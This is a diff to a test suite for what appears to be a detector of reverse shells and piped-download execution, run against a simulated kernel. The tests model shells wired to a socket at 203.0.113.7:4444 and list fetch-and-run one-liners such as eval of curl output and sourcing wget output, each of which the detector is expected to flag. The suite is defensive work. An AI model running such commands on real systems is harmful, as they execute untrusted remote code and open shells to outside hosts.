@@ -94,7 +94,7 @@ test('shells with scripts, terminals, pipes and sockets of this machine are no r
     const node = kernel.spawn(shell, '/usr/bin/node', { argv: ['node', 'server.js'] });
     kernel.connect(node, '127.0.0.1', 5432);
     for (const stdin of [{ kind: 'unix', file: 4 }, pipe(4)] as const) kernel.run(node, '/bin/sh', { stdin });
-    const own = { kind: 'device', file: 3 } as const;
+    const own = { kind: 'device', file: (136 << 20) | 3 } as const;
     kernel.run(shell, '/usr/bin/bash', { argv: ['bash'], stdin: own, stdout: own });
     kernel.run(shell, '/usr/bin/bash', { argv: ['bash', '/usr/lib/inetd/handler'], stdin: network });
     kernel.run(shell, '/usr/bin/git', { argv: ['git', 'upload-pack'], stdin: network });
@@ -108,13 +108,57 @@ test('a shell that answers into a socket, or sits at a terminal of a process tha
     kernel.spawn(shell, '/bin/sh', { stdin: pipe(1), stdout: network });
   });
   assert.ok(answering.includes('Critical reverse-shell 203.0.113.7:4444'), answering.join());
-  const terminal = { kind: 'device', file: 9 } as const;
+  const terminal = { kind: 'device', file: (136 << 20) | 9 } as const;
   const pseudo = foundIn((kernel, shell) => {
     const python = kernel.spawn(shell, '/usr/bin/python3', { argv: ['python3', '-c', 'pty.spawn'] });
     kernel.connect(python, '203.0.113.7', 4444);
     kernel.spawn(python, '/bin/sh', { stdin: terminal, stdout: terminal });
   });
   assert.deepEqual(pseudo, ['High reverse-shell 203.0.113.7:4444']);
+  const nowhere = { kind: 'device', file: (1 << 20) | 3 } as const;
+  const deaf = foundIn((kernel, shell) => {
+    kernel.connect(shell, '203.0.113.7', 443);
+    kernel.run(shell, '/bin/sh', { stdin: nowhere, stdout: nowhere });
+  });
+  assert.deepEqual(deaf, [], '/dev/null is no terminal');
+});
+
+test('a copied shell is one by any name, and a program of the system that answers a caller is none', () => {
+  const both = { stdin: network, stdout: network };
+  const found = (options: ExecOptions & { path: string }, address?: string) =>
+    foundIn((kernel, shell) => {
+      if (address !== undefined) kernel.connect(shell, address, 4444);
+      kernel.run(shell, options.path, { ...both, ...options });
+    }).filter((line) => line.includes('reverse-shell'));
+  const own = ['High reverse-shell 203.0.113.7:4444'];
+  assert.deepEqual(found({ path: '/home/runner/work/web/web/httpd' }, '203.0.113.7'), own);
+  assert.deepEqual(found({ path: '/memfd:x', traits: { memfd: true } }, '203.0.113.7'), own);
+  assert.deepEqual(found({ path: '/usr/bin/git' }, '203.0.113.7'), []);
+  assert.deepEqual(found({ path: '/home/runner/work/web/web/handler' }), []);
+  assert.deepEqual(found({ path: '/home/runner/work/web/web/handler' }, '127.0.0.1'), []);
+});
+
+test('a shell whose text says to execute a download is found where that download is', () => {
+  const found = (text: string, path = '/usr/bin/bash') =>
+    foundIn((kernel, shell) => {
+      const told = kernel.spawn(shell, path, { argv: [path, '-c', text] });
+      goTo(kernel, kernel.spawn(told, '/usr/bin/curl', { stdout: pipe(5) }));
+    });
+  for (const text of [
+    'eval "$(curl -fsS https://get.example.com)"',
+    '/bin/sh -c "$(curl -fsSL https://get.example.com)"',
+    'cd /tmp && source <(wget -qO- https://get.example.com)',
+    'bash <<< "$(curl https://get.example.com)"',
+    'python3 -c "$(curl https://get.example.com)"',
+  ])
+    assert.deepEqual(found(text), ['Medium piped-download get.example.com'], text);
+  for (const text of [
+    'version=$(curl https://get.example.com | jq -r .tag); echo "$version"',
+    "eval 'tag=$(curl https://get.example.com)'",
+    'bash -c "echo $(curl https://get.example.com)"',
+    'source env.sh; curl https://get.example.com',
+  ])
+    assert.deepEqual(found(text), [], text);
 });
 
 test('a shell that is fed by a process that went to the network, or reads a descriptor beside a download, is found', () => {
